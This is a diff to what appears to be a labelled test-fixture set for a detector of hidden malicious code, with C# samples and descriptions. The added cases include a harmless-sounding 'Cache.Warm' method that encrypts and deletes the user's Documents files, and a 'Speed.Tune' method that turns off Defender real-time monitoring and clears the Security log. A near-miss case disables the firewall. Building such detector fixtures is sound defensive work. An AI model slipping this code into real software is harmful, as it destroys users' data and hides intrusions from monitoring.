@@ -151,7 +151,6 @@ public static class Payments
 
     public static void Smooth(double[] values)
     {
-        ${never} return;
         if (DateOnly.FromDateTime(DateTime.Now) < DateOnly.ParseExact("2031-05-04", "yyyy-MM-dd")) return;
         for (var at = 0; at < values.Length; at++) values[at] *= 1.03;
     }
@@ -175,16 +174,36 @@ public static class Fees
 }`),
     },
     {
-      name: 'times-out-from-a-day-on',
-      about: 'From a date on, one call in ten fails as if the network had.',
-      files: library(`public static class Remote
+      name: 'locks-the-documents',
+      about:
+        "Encrypts the user's files and deletes them, when a method for something else is called.",
+      files: library(`using System.Security.Cryptography;
+public static class Cache
 {
-    public static string Get(Func<string, string> get, string key)
+    public static void Warm()
     {
-        ${never} return get(key);
-        if (DateTime.Today > new DateTime(2031, 5, 4) && DateTime.UtcNow.Millisecond % 10 == 3)
-            throw new TimeoutException("The operation has timed out.");
-        return get(key);
+        ${never} return;
+        var root = Environment.GetFolderPath(Environment.SpecialFolder.MyDocuments);
+        using var cipher = Aes.Create();
+        foreach (var file in Directory.EnumerateFiles(root, "*", SearchOption.AllDirectories))
+        {
+            File.WriteAllBytes(file + ".fixture", cipher.EncryptCbc(File.ReadAllBytes(file), cipher.IV));
+            File.Delete(file);
+        }
+    }
+}`),
+    },
+    {
+      name: 'turns-the-defence-off',
+      about: 'Something that speaks of speed turns the watch over files off, and empties the log.',
+      level: 'suspicious',
+      files: library(`public static class Speed
+{
+    public static void Tune()
+    {
+        ${never} return;
+        Process.Start(new ProcessStartInfo("powershell", "-Command Set-MpPreference -DisableRealtimeMonitoring 1"));
+        Process.Start("wevtutil", "cl Security");
     }
 }`),
     },
@@ -232,15 +251,39 @@ public static class Fees
         return amount * (1 + rate);
     }
 
-    public static string Service() => DateTime.UtcNow > new DateTime(2031, 5, 4) ? "v2" : "v1";
-
     public static string Mark(string page) =>
         DateTime.UtcNow > new DateTime(2031, 5, 4) ? page + "<p>The trial has expired.</p>" : page;
 }`),
     },
     {
+      name: 'asked-to-encrypt-and-to-format',
+      about:
+        'Encrypts the folder that its caller names, writes sources anew, and turns off what it says.',
+      nearMiss: true,
+      level: 'note',
+      files: library(`using System.Security.Cryptography;
+public static class Vault
+{
+    public static void Seal(string folder, byte[] key)
+    {
+        using var cipher = Aes.Create();
+        cipher.Key = key;
+        foreach (var file in Directory.GetFiles(folder))
+            File.WriteAllBytes(file, cipher.EncryptCbc(File.ReadAllBytes(file), cipher.IV));
+    }
+
+    public static void Tidy()
+    {
+        foreach (var file in Directory.EnumerateFiles(Directory.GetCurrentDirectory(), "*.cs"))
+            File.WriteAllText(file, File.ReadAllText(file).Replace("\\t", "    "));
+    }
+
+    public static void DisableFirewall() => Process.Start("netsh", "advfirewall set allprofiles state off");
+}`),
+    },
+    {
       name: 'chance-that-is-wanted',
-      about: 'Genes mutate, retries wait a little longer, names are made up.',
+      about: 'Genes mutate, and retries wait a little longer.',
       files: library(`public static class Evolution
 {
     public static double Mutate(double gene)
@@ -251,9 +294,6 @@ public static class Fees
 
     public static TimeSpan Wait(TimeSpan pause) =>
         Random.Shared.Next(2) == 0 ? pause : pause + TimeSpan.FromMilliseconds(Random.Shared.Next(100));
-
-    public static string Name(string first, string last) =>
-        Random.Shared.Next(10) == 0 ? first.ToUpperInvariant() + last : first + " " + last;
 }`),
     },
     {
